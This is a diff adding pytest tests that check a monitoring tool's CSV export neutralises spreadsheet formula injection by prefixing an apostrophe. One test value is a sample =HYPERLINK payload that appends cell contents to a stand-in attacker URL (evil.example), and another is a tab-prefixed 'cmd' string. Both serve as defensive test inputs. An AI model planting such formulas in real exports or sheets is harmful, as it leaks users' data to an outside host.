@@ -258,6 +258,15 @@ def test_export_backup_and_migrate(demo_db: str, tmp_path: Path) -> None:
         cases = list(csv.DictReader(f))
     assert len(cases) == _count(demo_db, "SELECT count(*) FROM cases")
     assert {"id", "status", "author", "team", "sla_due_at", "csat"} <= set(cases[0])
+    # a post that would run as a spreadsheet formula is exported as text (OWASP: apostrophe)
+    posts = tmp_path / "mentions.csv"
+    assert _demo("export", "--what", "mentions", "--format", "csv", "-o", str(posts),
+                 db=demo_db).returncode == 0
+    with posts.open(newline="", encoding="utf-8") as f:
+        texts = [r["text"] for r in csv.DictReader(f)]
+    assert len(texts) == mentions
+    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@")]
+    assert sum(t.startswith("'@") for t in texts) >= 10  # replies that start with a handle
 
     copy = tmp_path / "backup.db"
     backup = _demo("db", "backup", str(copy), db=demo_db)
@@ -272,3 +281,14 @@ def test_export_backup_and_migrate(demo_db: str, tmp_path: Path) -> None:
         assert again.returncode == 2 and "exists" in again.stderr
     migrate = _demo("db", "migrate", db=demo_db)
     assert migrate.returncode == 0 and "nothing to do" in migrate.stdout
+
+
+@pytest.mark.parametrize(("value", "safe"), [
+    ('=HYPERLINK("https://evil.example/?d="&A1,"click")', "'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"click\")"),
+    ("+1-555-0100", "'+1-555-0100"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\tcmd", "'\tcmd"), ("plain text", "plain text"), (42, 42), (None, None),
+])
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(value: object, safe: object) -> None:
+    from monitor.commands.operations import csv_cell
+
+    assert csv_cell(value) == safe
